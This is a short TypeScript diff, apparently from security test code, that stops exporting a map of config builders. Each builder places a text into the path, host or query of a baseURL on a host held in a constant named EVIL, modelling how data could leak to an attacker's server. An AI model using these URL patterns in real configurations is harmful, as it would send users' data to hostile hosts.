@@ -18,7 +18,7 @@ import {
 } from "./vocabulary.js";
 
 /** Public fields of the schema, each with a config that puts a text into it. */
-export const publicFields: Readonly<Record<string, (text: string) => object>> = {
+const publicFields: Readonly<Record<string, (text: string) => object>> = {
   "the path of a baseURL": (text) => custom(`https://${EVIL}/${text}`),
   "the host of a baseURL": (text) => custom(`https://${text}.${EVIL}/v1`),
   "the query of a baseURL": (text) => custom(`https://${EVIL}/v1?q=${text}`),
